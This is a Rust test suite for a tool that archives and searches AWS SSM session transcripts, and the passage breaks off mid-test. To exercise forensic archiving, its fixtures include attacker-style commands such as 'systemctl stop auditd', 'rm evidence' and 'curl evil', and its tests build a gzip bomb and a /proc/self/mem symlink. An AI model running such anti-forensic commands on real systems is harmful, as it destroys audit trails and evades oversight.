//! A folder goes in, an archive comes out; again and again, whatever lies in the folder.

use std::io::Write;

use expect_test::expect;

use crate::world::FOOTER;
use crate::world::HEADER;
use crate::world::World;

const ALICE: &str = "logs/alice-0123456789abcdef0.log";
const BOB: &str = "logs/bob-0123456789abcdef1.log";

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).expect("packed");
    out.finish().expect("packed")
}

fn event(stream: &str, owner: &str, at: u64, lines: &[&str]) -> String {
    let message = serde_json::json!({
        "eventVersion": "1.0",
        "eventTime": chrono::DateTime::from_timestamp(at as i64, 0).expect("a time").to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
        "awsRegion": "eu-west-1",
        "target": { "id": "i-0e24f79031c6414e1" },
        "userIdentity": { "arn": owner },
        "runAsUser": "ssm-user",
        "sessionId": stream,
        "sessionData": lines,
    });
    serde_json::json!({ "logStreamName": stream, "timestamp": at * 1000, "message": message.to_string() })
        .to_string()
}

#[test]
fn a_folder_is_archived_and_the_next_run_reads_nothing() {
    let world = World::new();
    world
        .transcript(ALICE, &["sh-4.2$ id", "uid=0(root)"])
        .transcript(BOB, &["sh-4.2$ ls", "a  b"]);
    world.run("sync logs").is(expect![[r#"
        ! listed 2 = stored 2 + held 0 + skipped 0 + failed 0
        ! 2 new sessions, 0 changed; 325 B read, 2 commands found
        ! head: 1:…
    "#]]);
    world.run("sync logs").is(expect![[r#"
        ! listed 2 = stored 0 + held 2 + skipped 0 + failed 0
        ! head: 1:…
    "#]]);
    world.run("sync --dry-run logs").is(expect![[r#"
        ! would read 0 objects of 2 listed in logs; 2 held already
    "#]]);
}

#[test]
fn a_changed_object_becomes_a_new_version_and_the_old_bytes_stay() {
    let world = World::new();
    world.transcript(ALICE, &["sh-4.2$ id", "sh-4.2$ rm evidence"]);
    world.run("sync logs");
    world.transcript(ALICE, &["sh-4.2$ id"]).touch(ALICE, 1_795_176_999);
    world.run("sync logs").is(expect![[r#"
        ! listed 1 = stored 1 + held 0 + skipped 0 + failed 0
        ! 1 new session, 1 changed; 152 B read, 3 commands found
        ! head: 2:…
    "#]]);
    world.run("query -e 'SELECT version, content_bytes FROM transcripts ORDER BY version'").is(
        expect![[r#"
            VERSION               CONTENT_BYTES
            152-1795176999000000            152
            174-1795176000000000            174
        "#]],
    );
    world.run("search '' --format csv").0.lines().nth(1).expect("one command");
    world.run("sessions").is(expect![[r#"
        WHEN                    OWNER  TARGET  COMMANDS  SESSION                                      FLAWS
        ≤ 2026-11-20 10:00:00Z  alice  -              2  alice-0123456789abcdef0#1 (account unknown)  diverges
        ≤ 2026-11-20 10:00:00Z  alice  -              1  alice-0123456789abcdef0#2 (account unknown)  diverges, replaced
    "#]]);
}

#[test]
fn a_file_that_was_only_touched_is_read_once_more_and_never_again() {
    let world = World::new();
    world.transcript(ALICE, &["sh-4.2$ id"]);
    world.run("sync logs");
    world.touch(ALICE, 1_795_176_999);
    world.run("sync logs").is(expect![[r#"
        ! listed 1 = stored 0 + held 1 + skipped 0 + failed 0
        ! head: 2:…
    "#]]);
    world.run("sync --dry-run logs").is(expect![[r#"
        ! would read 0 objects of 1 listed in logs; 1 held already
    "#]]);
}

#[test]
fn the_same_session_in_two_forms_is_one_session() {
    let world = World::new();
    let id = "alice-0123456789abcdef0";
    let arn = "arn:aws:iam::111122223333:user/alice";
    let events = [
        event(id, arn, 1_795_160_000, &["sh-4.2$ id", "uid=0(root)"]),
        event(id, arn, 1_795_160_060, &["sh-4.2$ echo caf\u{fffd}", "caf\u{fffd}"]),
    ];
    world.transcript(ALICE, &["sh-4.2$ id", "uid=0(root)", "sh-4.2$ echo café", "café"]);
    world.file("more/alice-0123456789abcdef0.jsonl", events.join("\n").as_bytes());
    let expected = expect![[r#"
        2026-11-20 07:33:20–10:00:00Z  alice on i-0e24f79031c6414e1  alice-0123456789abcdef0
            1  ssm-user   id
            2  ssm-user   echo café
    "#]];
    world.run("sync logs more");
    world.run("show alice --commands").is_same(&expected);
    world.run("archive verify").0.starts_with("sound").then_some(()).expect("sound");
    // In whatever order and runs they come.
    for (first, second) in [("logs", "more"), ("more", "logs")] {
        let other = World::new();
        for it in ["logs/alice-0123456789abcdef0.log", "more/alice-0123456789abcdef0.jsonl"] {
            other.file(it, &std::fs::read(world.path(it)).unwrap());
        }
        other.run(&format!("sync {first}"));
        other.run(&format!("sync {second}"));
        other.run("show alice --commands").is_same(&expected);
        other.run("search '' --count").is(expect![[r#"
            2
        "#]]);
    }
}

#[test]
fn one_id_used_in_two_accounts_is_two_sessions() {
    let world = World::new();
    let id = "ci-0123456789abcdef0";
    let one =
        event(id, "arn:aws:sts::111122223333:assumed-role/Ci/ci", 1_795_160_000, &["sh-4.2$ id"]);
    let two =
        event(id, "arn:aws:sts::444455556666:assumed-role/Ci/ci", 1_795_160_000, &["sh-4.2$ ls"]);
    world.file("a/ci-0123456789abcdef0.jsonl", one.as_bytes());
    world.file("b/ci-0123456789abcdef0.jsonl", two.as_bytes());
    world.run("sync a b");
    world
        .run("query -e 'SELECT session_id, account_id, command FROM commands ORDER BY account_id'")
        .is(expect![[r#"
        SESSION_ID            ACCOUNT_ID    COMMAND
        ci-0123456789abcdef0  111122223333  id
        ci-0123456789abcdef0  444455556666  ls
    "#]]);
}

#[test]
fn every_form_of_log_events_is_found_by_its_bytes() {
    let world = World::new();
    let arn = "arn:aws:iam::111122223333:user/alice";
    let line = |id: &str| event(id, arn, 1_795_160_000, &["sh-4.2$ id", "uid=0"]);
    let ids: Vec<String> = (0..6).map(|it| format!("alice-0123456789abcdef{it}")).collect();
    world.file("logs/one.jsonl", format!("{}\n{}\n", line(&ids[0]), line(&ids[1])).as_bytes());
    let document = format!("{{\"events\": [{}], \"nextToken\": \"x\"}}", line(&ids[2]));
    world.file("logs/filter-log-events.json", document.as_bytes());
    let message: serde_json::Value = serde_json::from_str(&line(&ids[3])).unwrap();
    let got = serde_json::json!({ "events": [{ "timestamp": 1, "message": message["message"], "ingestionTime": 2 }], "nextForwardToken": "f/1" });
    world.file("logs/get-log-events.json", serde_json::to_string_pretty(&got).unwrap().as_bytes());
    let export = format!(
        "2026-11-20T07:33:20.000Z {}\n",
        message["message"].as_str().unwrap().replace(&ids[3], &ids[4])
    );
    world.file(&format!("logs/export/{}/000000.gz", ids[4]), &gz(export.as_bytes()));
    world.file(
        &format!("logs/{}.jsonl.zst", ids[5]),
        &zstd::encode_all(line(&ids[5]).as_bytes(), 3).unwrap(),
    );
    world.run("sync logs").is(expect![[r#"
        ! listed 5 = stored 5 + held 0 + skipped 0 + failed 0
        ! 6 new sessions, 0 changed; 2.2 KB read, 6 commands found
        ! head: 1:…
    "#]]);
    world.run("query -e 'SELECT session_id, form, owner FROM transcripts JOIN sessions USING (session_id) ORDER BY session_id'").is(expect![[r#"
        SESSION_ID               FORM    OWNER
        alice-0123456789abcdef0  events  arn:aws:iam::111122223333:user/alice
        alice-0123456789abcdef1  events  arn:aws:iam::111122223333:user/alice
        alice-0123456789abcdef2  events  arn:aws:iam::111122223333:user/alice
        alice-0123456789abcdef3  events  arn:aws:iam::111122223333:user/alice
        alice-0123456789abcdef4  events  arn:aws:iam::111122223333:user/alice
        alice-0123456789abcdef5  events  arn:aws:iam::111122223333:user/alice
    "#]]);
}

#[test]
fn what_is_no_transcript_is_said_and_costs_nothing() {
    let world = World::new();
    world.file("logs/prod/Standard_Stream/stderr", b"unable to generate log data");
    world.file("logs/shot.png", b"\x89PNG\r\n\x1a\n");
    world.file(
        "logs/trail.json",
        br#"{"Records":[{"eventVersion":"1.08","eventSource":"ssm.amazonaws.com"}]}"#,
    );
    world.file("logs/empty.txt", b"");
    world.file(
        "logs/lambda.jsonl",
        br#"{"logStreamName":"2026/11/23/[$LATEST]abc","timestamp":1,"message":"START RequestId: 1"}"#,
    );
    world.run("sync logs").is(expect![[r#"
        ! listed 5 = stored 0 + held 0 + skipped 5 + failed 0
        ! skipped logs/empty.txt: no transcript: empty
        ! skipped logs/lambda.jsonl: no transcript: log events of something that is no session
        ! skipped logs/prod/Standard_Stream/stderr: no transcript: no script header, no log events, and its name is no session id
        ! skipped logs/shot.png: no transcript: a PNG image
        ! skipped logs/trail.json: no transcript: a CloudTrail file
        ! head: 1:…
    "#]]);
}

#[test]
fn streams_that_are_no_sessions_are_said_even_beside_some_that_are() {
    let world = World::new();
    let id = "alice-0123456789abcdef0";
    let session = event(id, "arn:aws:iam::111122223333:user/alice", 1_795_160_000, &["sh-4.2$ id"]);
    let other = r#"{"logStreamName":"app/1","timestamp":1,"message":"GET /"}"#;
    world.file("logs/mixed.jsonl", format!("{session}\n{other}\n").as_bytes());
    let said = world.run("sync logs").0;
    assert!(said.contains("stored 1"), "{said}");
    assert!(said.contains("skipped a part of logs/mixed.jsonl"), "{said}");
}

#[test]
fn an_empty_transcript_is_kept_as_what_it_is() {
    let world = World::new();
    world.file(ALICE, b"");
    world.run("sync logs").is(expect![[r#"
        ! listed 1 = stored 1 + held 0 + skipped 0 + failed 0
        ! 1 new session, 0 changed; 0 B read, 0 commands found
        ! head: 1:…
    "#]]);
    world.run("show alice").is(expect![[r#"
        ! note: the transcript has no bytes
        [exit 1]
    "#]]);
}

#[test]
fn what_cannot_be_read_is_named_and_the_rest_goes_on() {
    let world = World::new();
    world.transcript(ALICE, &["sh-4.2$ id"]);
    std::os::unix::fs::symlink("nowhere", world.path("logs/gone-0123456789abcdef2.log")).unwrap();
    std::os::unix::fs::symlink("/proc/self/mem", world.path("logs/mem-0123456789abcdef3.log"))
        .unwrap();
    std::os::unix::fs::symlink(".", world.path("logs/loop")).unwrap();
    world.run("sync logs").is(expect![[r#"
        ! listed 4 = stored 1 + held 0 + skipped 1 + failed 2
        ! 1 new session, 0 changed; 152 B read, 1 command found
        ! skipped logs/loop: a symbolic link to a folder around it
        ! failed logs/gone-0123456789abcdef2.log: no such file or directory
        ! failed logs/mem-0123456789abcdef3.log: a link that leads out of the source, to /proc/self/mem: it was not followed; name that place as a source if it belongs here
        ! head: 1:…
        [exit 3]
    "#]]);
}

#[test]
fn a_name_that_is_no_utf8_is_archived_and_can_be_told_from_others() {
    use std::os::unix::ffi::OsStrExt;
    let world = World::new();
    world.transcript(ALICE, &["sh-4.2$ id"]);
    let odd =
        world.path("logs").join(std::ffi::OsStr::from_bytes(b"caf\xe9-0123456789abcdef4.log"));
    std::fs::copy(world.path(ALICE), &odd).unwrap();
    world.run("sync logs");
    world.run("query -e 'SELECT session_id FROM sessions ORDER BY session_id'").is(expect![[r#"
        SESSION_ID
        alice-0123456789abcdef0
        caf%E9-0123456789abcdef4
    "#]]);
}

#[test]
fn a_gzip_bomb_is_stopped_and_said() {
    let world = World::new();
    world.transcript(ALICE, &["sh-4.2$ id"]);
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    packer.write_all(HEADER.as_bytes()).unwrap();
    let blanks = vec![b' '; 1 << 20];
    for _ in 0..1100 {
        packer.write_all(&blanks).unwrap();
    }
    world.file("logs/bomb-0123456789abcdef5.log.gz", &packer.finish().unwrap());
    world.run("sync logs").is(expect![[r#"
        ! listed 2 = stored 1 + held 0 + skipped 0 + failed 1
        ! 1 new session, 0 changed; 152 B read, 1 command found
        ! failed logs/bomb-0123456789abcdef5.log.gz: it unpacks to more than 1073741824 bytes of nearly nothing: a decompression bomb
        ! head: 1:…
        [exit 3]
    "#]]);
}

#[test]
fn a_damaged_gzip_keeps_what_could_be_read() {
    let world = World::new();
    // Lines that do not shrink to nothing.
    let noise: String = (0u64..3000)
        .map(|it| format!("{:x}\r\r\n", it.wrapping_mul(0x9e37_79b9_7f4a_7c15)))
        .collect();
    let whole = gz(format!("{HEADER}sh-4.2$ id\r\r\n{}{FOOTER}", noise).as_bytes());
    world.file("logs/alice-0123456789abcdef0.log.gz", &whole[..whole.len() / 2]);
    let said = world.run("sync logs").0;
    assert!(said.contains("1 new session") && said.contains("read only a part of"), "{said}");
    assert!(said.ends_with("[exit 3]\n"), "{said}");
    world.run("show alice --commands").is(expect![[r#"
        ≤ 2026-11-20 10:00:00Z  alice (by its session id) on an unknown target  alice-0123456789abcdef0
            1  ?          id
        ! note: cut: the footer is missing, so the end may be
        ! note: only a part of the object could be read; that is kept
    "#]]);
}

#[test]
fn one_line_of_many_megabytes_is_kept_whole_in_pieces() {
    let world = World::new();
    let long = "x".repeat(40 << 20);
    world.file(
        ALICE,
        format!("{HEADER}sh-4.2$ cat blob\r\r\n{long}needle\r\r\nsh-4.2$ id\r\r\n{FOOTER}")
            .as_bytes(),
    );
    world.run("sync logs");
    world.run("search ''").is(expect![[r#"
        ≤ 2026-11-20 10:00:00Z  alice (by its session id) on an unknown target  alice-0123456789abcdef0
            1  ?          cat blob
            2  ?          id
    "#]]);
    world.run("search --output xneedle --count").is(expect![[r#"
        1
    "#]]);
    world.run("query -e \"SELECT SUM(LENGTH(text)) AS bytes FROM lines WHERE text LIKE 'x%'\"").is(
        expect![[r#"
               BYTES
            41943040
        "#]],
    );
}

#[test]
fn thousands_of_tiny_sessions_are_thousands_of_sessions() {
    let world = World::new();
    for it in 0..3000 {
        world.transcript(&format!("logs/u{}-0{it:016x}.log", it % 7), &["sh-4.2$ id"]);
    }
    world.run("sync logs").is(expect![[r#"
        ! listed 3,000 = stored 3,000 + held 0 + skipped 0 + failed 0
        ! 3,000 new sessions, 0 changed; 456.0 KB read, 3,000 commands found
        ! head: 1:…
    "#]]);
    world.run("sync logs").is(expect![[r#"
        ! listed 3,000 = stored 0 + held 3,000 + skipped 0 + failed 0
        ! head: 1:…
    "#]]);
}

#[test]
fn a_source_that_is_not_there_is_an_error_with_a_way_on() {
    let world = World::new();
    world.run("sync nowhere").is(expect![[r#"
        ! ssmtrail: no such folder: nowhere
        ! hint: a source is a folder or file; `./name` if it looks like something else
        [exit 2]
    "#]]);
    std::fs::create_dir(world.path("void")).unwrap();
    world.run("sync void").is(expect![[r#"
        ! listed 0 = stored 0 + held 0 + skipped 0 + failed 0
        ! nothing was found there; is it the right place?
        [exit 1]
    "#]]);
}

#[test]
fn two_copies_are_one_session_with_the_text_of_the_bytes_and_the_times_of_the_stream() {
    let world = World::new();
    let demo = |name: &str| {
        std::fs::read(format!("{}/tests/transcripts/demo/{name}", env!("CARGO_MANIFEST_DIR")))
            .unwrap()
    };
    let name = "alice-z81w3ijgndz9r8603r8bxzygn2";
    let events = demo(&format!("{name}.jsonl"));
    world.file(&format!("logs/{name}.log"), &demo(&format!("{name}.log")));
    world.file(&format!("logs/{name}.jsonl"), &events);
    world.run("sync logs");
    world.run("query -e 'select seq, command, at_earliest, at_latest from commands order by seq limit 4' --format csv").is(expect![[r#"
        seq,command,at_earliest,at_latest
        1,whoami,,2026-08-02T05:32:40Z
        2,cd /opt/app,2026-08-02T05:32:40Z,2026-08-02T05:32:44Z
        3,ls,2026-08-02T05:32:44Z,2026-08-02T05:32:53Z
        4,cat config.yaml,2026-08-02T05:32:53Z,2026-08-02T05:32:59Z
    "#]]);
    world.run("query -e 'select forms, flaws from sessions' --format csv").is(expect![[r#"
        forms,flaws
        events+script,
    "#]]);

    // Someone took a line out of the stream and put another in.
    let world = World::new();
    let text = String::from_utf8(events).unwrap();
    world.file(&format!("logs/{name}.log"), &demo(&format!("{name}.log")));
    world.file(&format!("logs/{name}.jsonl"), text.replacen("log_level", "nothing", 1).as_bytes());
    world.run("sync logs");
    world.run("query -e 'select forms, flaws from sessions' --format csv").is(expect![[r#"
        forms,flaws
        events+script,diverges@504~1661
    "#]]);
    let (_, said, _) = world.parts(&crate::world::words("show alice --commands"));
    assert!(
        said.contains("copies of the session differ; each is kept and searched: first at byte"),
        "{said}"
    );
}

const ARN: &str = "arn:aws:iam::111122223333:user/alice";
const ANN: &str = "ann-0123456789abcdef1";
const ZED: &str = "zed-0123456789abcdef2";

fn say(stream: &str, at: u64, text: &str) -> String {
    event(stream, ARN, 1_795_160_000 + at, &[&format!("sh-4.2$ {text}")])
}

#[test]
fn the_name_of_a_stream_outranks_what_is_masked_or_claimed_in_its_events() {
    let world = World::new();
    let masked = "arn:aws:sts::111122223333:assumed-role/Ops/***************";
    let event = |stream: &str, id: &str, arn: &str, at: u64, text: &str| {
        event(stream, arn, 1_795_160_000 + at, &[&format!("sh-4.2$ {text}")]).replacen(
            &format!("\\\"sessionId\\\":\\\"{stream}"),
            &format!("\\\"sessionId\\\":\\\"{id}"),
            1,
        )
    };
    let hidden = "***************-0123456789abcdef1";
    let lines = [event(ANN, hidden, masked, 0, "id"), event(BOB_ID, ZED, ARN, 1, "uptime")];
    assert!(lines[0].contains(hidden), "{}", lines[0]);
    world.file("logs/events.jsonl", lines.join("\n").as_bytes());
    // The bytes of the first, under its own name.
    world.transcript(&format!("logs/{ANN}.log"), &["sh-4.2$ id", "sh-4.2$ exit"]);
    world.run("sync logs");
    world
        .run("query -e 'SELECT session_id, account_id, owner, owner_from, claims, transcripts, flaws FROM sessions ORDER BY session_id' --format csv")
        .is(expect![[r#"
            session_id,account_id,owner,owner_from,claims,transcripts,flaws
            ann-0123456789abcdef1,111122223333,ann,session-id,account_id+region+target+run_as,2,diverges@86~0+masked
            bob-0123456789abcdef3,111122223333,arn:aws:iam::111122223333:user/alice,event,session_id+account_id+region+owner+target+run_as,1,id-differs+lossy
        "#]]);
}

#[test]
fn a_time_in_the_text_of_an_export_file_parts_no_event_and_moves_no_session() {
    let world = World::new();
    let text = "2026-11-20T03:12:46.001Z /app # cat release.txt\n2031-01-05T00:00:00.123Z end of support\n/app # exit\n";
    world.file(&format!("logs/task/{ANN}/000000.gz"), &gz(text.as_bytes()));
    let upload = format!(
        "2026-11-20T03:12:46.001Z Script started on 2026-11-20 03:12:45+00:00\nsh-4.2$ id\n{}2026-11-20T03:12:46.002Z sh-4.2$ uptime\n",
        format!("{}\n", "x".repeat(99)).repeat(2000)
    );
    world.file(&format!("logs/task/{BOB_ID}/000000.gz"), &gz(upload.as_bytes()));
    world.run("sync logs");
    world.run("sessions").is(expect![[r#"
        WHEN                    OWNER  TARGET  COMMANDS  SESSION                FLAWS
        ≤ 2026-11-20 03:12:45Z  bob    -              2  bob-0123456789abcdef3  no-footer
        ≤ 2026-11-20 03:12:46Z  ann    -              2  ann-0123456789abcdef1
    "#]]);
    world.run("search --output 2031-01-05T00:00:00.123Z --count").is(expect![[r#"
        1
    "#]]);
    // As long as that is, a time far from the event's own is none; and of streamed events the next is JSON, too.
    let far = format!(
        "2026-11-20T03:12:46.001Z sh-4.2$ cat notes\n{}2031-01-05T00:00:00.123Z end of support\n",
        "\n".repeat(101_000)
    );
    world.file("more/task/far-0123456789abcdef7/000000.gz", &gz(far.as_bytes()));
    let message: serde_json::Value = serde_json::from_str(&say(ZED, 0, "id")).unwrap();
    let streamed = format!(
        "2026-11-20T03:12:46.001Z {}\n2031-01-05T00:00:00.123Z end of support\n",
        message["message"].as_str().unwrap()
    );
    world.file(&format!("more/task/{ZED}/000000.gz"), &gz(streamed.as_bytes()));
    world.run("sync more");
    assert!(!world.run("sessions").0.contains("2031-"), "{}", world.run("sessions").0);
    // A chunk of a long file ends where the next line would make it too long: that time is the event's own.
    world.run("search --output 2026-11-20T03:12:46.002Z --count").is(expect![[r#"
        0
        [exit 1]
    "#]]);
    world.run("search uptime --count").is(expect![[r#"
        1
    "#]]);
}

#[test]
fn readings_of_a_stream_that_each_hold_something_are_all_kept_and_searched() {
    let world = World::new();
    let part = |nth: u64| say(ANN, nth, &format!("echo part{nth}"));
    // Two parts, a third reading that holds one of them, and the same events once more in another form.
    world.file("0/a.jsonl", part(0).as_bytes());
    world.file("1/b.jsonl", [part(1), part(2)].join("\n").as_bytes());
    world.file("2/c.jsonl", part(2).as_bytes());
    let event: serde_json::Value = serde_json::from_str(&part(0)).unwrap();
    world.file("3/d.json", serde_json::json!({ "events": [event] }).to_string().as_bytes());
    for it in 0..4 {
        world.run(&format!("sync {it}"));
    }
    for nth in 0..3 {
        world.run(&format!("search part{nth} --count")).is(expect![[r#"
            1
        "#]]);
    }
    world.run("query -e 'SELECT session_key, transcripts, flaws FROM sessions ORDER BY session_key' --format csv").is(
        expect![[r#"
            session_key,transcripts,flaws
            ann-0123456789abcdef1,2,diverges+lossy
            ann-0123456789abcdef1#2,2,diverges+lossy
        "#]],
    );
}

#[test]
fn when_an_event_was_taken_in_bounds_what_it_claims() {
    let world = World::new();
    let taken_in = 1_794_268_800_000_i64; // 2026-11-10
    let event = |name: &str, told: u64, sent: i64| {
        let line = event(&format!("{name}-0123456789abcdef1"), ARN, told, &["sh-4.2$ id"]);
        let mut it: serde_json::Value = serde_json::from_str(&line).unwrap();
        it["timestamp"] = sent.into();
        it["ingestionTime"] = taken_in.into();
        it.to_string()
    };
    world.file("l/late.jsonl", event("late", 1_793_145_600, 1_793_145_600_000).as_bytes());
    world.file("l/soon.jsonl", event("soon", 4_070_908_800, 4_070_908_800_000).as_bytes());
    world.file("l/good.jsonl", event("good", 1_794_268_805, 1_794_268_799_999).as_bytes());
    world.run("sync l");
    let ids = |window: &str| -> Vec<String> {
        let said = world.run(&format!("sessions {window} --format jsonl")).0;
        let lines = said.lines().filter(|it| it.starts_with('{'));
        lines
            .map(|it| it.split('"').nth(3).unwrap().split('-').next().unwrap().to_owned())
            .collect()
    };
    let mut all = ids("--from 2026-11-10 --to 2026-11-11");
    all.sort();
    assert_eq!(all, ["good", "late", "soon"]);
    assert_eq!(ids("--from 2026-10-28 --to 2026-10-29"), ["late"]);
    assert_eq!(ids("--from 2098-12-31 --to 2099-01-02"), ["soon"]);
    world.run("query -e 'SELECT session_id, at, flaws FROM sessions ORDER BY session_id' --format csv").is(expect![[r#"
        session_id,at,flaws
        good-0123456789abcdef1,2026-11-10T00:00:05Z,lossy
        late-0123456789abcdef1,2026-11-10T00:00:00Z,clock+lossy
        soon-0123456789abcdef1,2026-11-10T00:00:00Z,clock+lossy
    "#]]);
}

#[test]
fn the_name_of_a_file_is_never_the_key_of_another_session() {
    let world = World::new();
    for (nth, (name, text)) in
        [(ANN, "ls"), (ANN, "systemctl stop auditd"), ("ann-0123456789abcdef1#2", "curl evil")]
            .iter()
            .enumerate()
    {
        world.transcript(
            &format!("{nth}/{name}.log"),
            &[&format!("sh-4.2$ {text}"), "sh-4.2$ exit"],
        );
        world.run(&format!("sync {nth}"));
    }
    let all = || {
        ["ls", "systemctl stop auditd", "curl evil"]
            .map(|it| world.run(&format!("search '{it}' --count")).0)
    };
    assert_eq!(all(), ["1\n", "1\n", "1\n"]);
    assert!(!world.run("archive rebuild").0.contains("[exit"));
    assert_eq!(all(), ["1\n", "1\n", "1\n"]);
    assert!(world.run(&format!("show '{ANN}#2' --commands")).0.contains("systemctl stop auditd"));
}

const FLAWS: &str =
    "query -e 'SELECT session_id, command_count, flaws FROM sessions ORDER BY session_id'";

#[test]
fn a_damaged_event_is_a_flaw_of_the_session_that_it_names_and_of_no_other() {
    let world = World::new();
    let broken = say(ZED, 2, "systemctl stop auditd");
    let lines = [say(ANN, 0, "echo a"), say(ZED, 1, "echo z"), say(ANN, 2, "echo b"), broken];
    let text = lines.join("\n");
    world.file("logs/events.jsonl", &text.as_bytes()[..text.len() - 3]);
    world.run("sync logs").is(expect![[r#"
        ! listed 1 = stored 1 + held 0 + skipped 0 + failed 0
        ! 2 new sessions, 0 changed; 1.6 KB read, 3 commands found
        ! read only a part of logs/events.jsonl: a log event cannot be read as one; it is kept as it is
        ! head: 1:…
        [exit 3]
    "#]]);
    world.run(FLAWS).is(expect![[r#"
        SESSION_ID             COMMAND_COUNT  FLAWS
        ann-0123456789abcdef1              2  lossy
        zed-0123456789abcdef2              1  event-unreadable+lossy
    "#]]);
}

#[test]
fn a_damaged_event_that_names_no_session_goes_where_the_line_before_it_went() {
    let world = World::new();
    let lines =
        [say(ANN, 0, "echo a"), say(ZED, 1, "echo z"), "{\"messa".into(), say(ANN, 2, "echo b")];
    world.file("logs/events.jsonl", lines.join("\n").as_bytes());
    world.run("sync logs");
    world.run(FLAWS).is(expect![[r#"
        SESSION_ID             COMMAND_COUNT  FLAWS
        ann-0123456789abcdef1              2  lossy
        zed-0123456789abcdef2              1  event-unreadable+lossy
    "#]]);
}

#[test]
fn a_damaged_event_of_which_nothing_tells_the_session_is_a_flaw_of_all() {
    let world = World::new();
    let lines = ["{\"message\": \"x".into(), say(ANN, 0, "echo a"), say(ZED, 1, "echo z")];
    world.file("logs/events.jsonl", lines.join("\n").as_bytes());
    world.run("sync logs").is(expect![[r#"
        ! listed 1 = stored 1 + held 0 + skipped 0 + failed 0
        ! 2 new sessions, 0 changed; 794 B read, 2 commands found
        ! read only a part of logs/events.jsonl: one of its lines is no event and does not tell whose it is
        ! head: 1:…
        [exit 3]
    "#]]);
    world.run(FLAWS).is(expect![[r#"
        SESSION_ID             COMMAND_COUNT  FLAWS
        ann-0123456789abcdef1              1  event-unreadable+lossy+object-damaged
        zed-0123456789abcdef2              1  event-unreadable+lossy+object-damaged
    "#]]);
}

#[test]
fn a_document_that_breaks_in_the_middle_loses_none_of_the_events_around() {
    let world = World::new();
    let broken = say(ZED, 1, "id").replacen("\\\"", "\"", 1);
    let events = [say(ANN, 0, "echo a"), broken, say(ANN, 2, "echo b"), say(ZED, 3, "echo z")];
    world.file("logs/events.json", format!("{{\"events\": [{}]}}", events.join(",\n")).as_bytes());
    world.run("sync logs").is(expect![[r#"
        ! listed 1 = stored 1 + held 0 + skipped 0 + failed 0
        ! 2 new sessions, 0 changed; 1.6 KB read, 3 commands found
        ! read only a part of logs/events.json: a log event cannot be read as one; it is kept as it is
        ! head: 1:…
        [exit 3]
    "#]]);
    world.run(FLAWS).is(expect![[r#"
        SESSION_ID             COMMAND_COUNT  FLAWS
        ann-0123456789abcdef1              2  lossy
        zed-0123456789abcdef2              1  event-unreadable+lossy
    "#]]);
}

#[test]
fn pages_of_events_behind_each_other_are_all_read() {
    let world = World::new();
    let page = |it: &str| format!("{{\"events\": [{it}], \"nextToken\": \"x\"}}\n");
    let text = page(&say(ANN, 0, "echo a")) + &page(&say(ZED, 1, "echo z"));
    world.file("logs/pages.json", text.as_bytes());
    world.run("sync logs").is(expect![[r#"
        ! listed 1 = stored 1 + held 0 + skipped 0 + failed 0
        ! 2 new sessions, 0 changed; 844 B read, 2 commands found
        ! head: 1:…
    "#]]);
}

#[test]
fn an_event_that_comes_twice_in_a_file_is_dropped_only_where_its_id_proves_it() {
    let world = World::new();
    let with_id =
        |line: String, id: &str| line.replacen('{', &format!("{{\"eventId\":\"{id}\","), 1);
    let proved = [
        with_id(say(ANN, 0, "echo a"), "1"),
        with_id(say(ANN, 0, "echo a"), "1"),
        // One id for two events: neither hides the other.
        with_id(say(ZED, 0, "echo z"), "2"),
        with_id(say(ZED, 0, "systemctl stop auditd"), "2"),
    ];
    world.file("logs/ids.jsonl", proved.join("\n").as_bytes());
    let alike = say(BOB_ID, 0, "echo b");
    world.file("logs/none.jsonl", format!("{alike}\n{alike}\n").as_bytes());
    world.run("sync logs");
    world.run(FLAWS).is(expect![[r#"
        SESSION_ID             COMMAND_COUNT  FLAWS
        ann-0123456789abcdef1              1  lossy
        bob-0123456789abcdef3              2  lossy+repeated
        zed-0123456789abcdef2              2  lossy+repeated
    "#]]);
}

const BOB_ID: &str = "bob-0123456789abcdef3";

#[test]
fn bytes_of_an_export_that_are_no_text_are_kept_and_marked() {
    let world = World::new();
    let mut text =
        b"2026-11-20T07:33:20.000Z Script started on 2026-11-20 07:00:00+00:00\nsh-4.2$ cat x\r\n"
            .to_vec();
    text.extend(b"caf\xe9 and \xff\r\nsh-4.2$ id\r\n");
    world.file(&format!("logs/export/{ANN}/000000.gz"), &gz(&text));
    world.run("sync logs").is(expect![[r#"
        ! listed 1 = stored 1 + held 0 + skipped 0 + failed 0
        ! 1 new session, 0 changed; 108 B read, 2 commands found
        ! read only a part of logs/export/ann-0123456789abcdef1/000000.gz: a log event cannot be read as one; it is kept as it is
        ! head: 1:…
        [exit 3]
    "#]]);
    world.run(FLAWS).is(expect![[r#"
        SESSION_ID             COMMAND_COUNT  FLAWS
        ann-0123456789abcdef1              2  event-unreadable+no-footer
    "#]]);
}

#[test]
fn a_piece_of_a_line_longer_than_an_event_can_be_is_no_event_whatever_it_looks_like() {
    let world = World::new();
    let first = say(ANN, 0, "echo a");
    // Lines come in pieces of 32 MiB: the second looks like an event of another session.
    let mut text = format!("{first}\n{{\"logStreamName\":\"{ANN}\",\"message\":\"");
    let begins = first.len() + 1;
    text.push_str(&"A".repeat((32 << 20) - (text.len() - begins)));
    text.push_str(&say(ZED, 0, "systemctl stop auditd"));
    world.file("logs/events.jsonl", text.as_bytes());
    world.run("sync logs");
    world.run(FLAWS).is(expect![[r#"
        SESSION_ID             COMMAND_COUNT  FLAWS
        ann-0123456789abcdef1              1  event-unreadable+lossy
    "#]]);
}

#[test]
fn an_export_line_longer_than_an_event_can_be_is_kept_whole() {
    let world = World::new();
    let mut text =
        b"2026-11-20T07:33:20.000Z Script started on 2026-11-20 07:00:00+00:00\n".to_vec();
    text.extend(b"x".repeat(33 << 20));
    text.extend(b"needle\nsh-4.2$ id\r\n");
    world.file(&format!("logs/export/{ANN}/000000.gz"), &gz(&text));
    world.run("sync logs");
    world.run("search --output xneedle --count").is(expect![[r#"
        1
    "#]]);
}

#[test]
fn a_file_of_many_streams_is_as_many_sessions_and_needs_no_file_for_each() {
    let world = World::new();
    let mut text = String::new();
    for round in 0..2 {
        for it in 0..1500 {
            let stream = format!("u-0{it:016x}");
            text.push_str(&say(&stream, round, &format!("echo {round}{}", "x".repeat(6000))));
            text.push('\n');
        }
    }
    world.file("logs/events.jsonl", text.as_bytes());
